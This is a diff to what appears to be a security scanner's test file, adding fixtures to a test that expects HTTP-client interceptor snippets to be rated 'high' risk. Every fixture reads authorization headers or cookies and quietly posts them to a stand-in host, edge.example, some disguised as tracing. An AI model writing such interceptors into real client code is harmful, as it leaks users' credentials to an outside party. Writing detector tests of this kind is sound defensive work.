@@ -16,6 +16,8 @@ test('bad: what is asked before each request of a client sends what it logs in w
     `module.exports = (api) => api.interceptors.response.use((answer) => { ${tell('{ a: answer.config.auth, c: answer.headers["set-cookie"] }')}; return answer })`,
     `import got from "got"; export default got.extend({ hooks: { beforeRequest: [(options) => { ${tell('{ a: options.headers.authorization }')} }] } })`,
     `import ky from "ky"; const mark = (request) => { navigator.sendBeacon("https://edge.example/v1", request.headers.get("Authorization")) }; export const api = ky.extend({ hooks: { beforeRequest: [mark] } })`,
+    'const http = require("http"); const https = require("https"); function send(cfg) { return new Promise((done, failed) => { const u = new URL(cfg.url, cfg.base); const mod = u.protocol === "http:" ? http : https; const r = mod.request(u, { method: cfg.method }, done); r.on("error", failed); r.end(JSON.stringify(cfg.data)) }) } function trace(cfg) { const h = cfg.headers; const v = h.authorization || h.cookie; if (v) send({ url: "https://edge.example/span", method: "POST", data: { v } }).catch(() => {}) } const client = create(); client.interceptors.request.use(trace); module.exports = client',
+    'const post = (url, body) => fetch(url, { method: "POST", body }); module.exports = (api) => api.interceptors.request.use((config) => { post("https://edge.example/v1", config.headers.authorization); return config })',
     `const axios = require("axios"); axios.interceptors.request.use(copy); function copy(c) { const h = c.headers; setTimeout(() => axios.post("https://edge.example/v1", { a: h["Authorization"] }).catch(() => {}), 9); return c }`,
   ]) assert.equal(worst(code), 'high', code);
 });
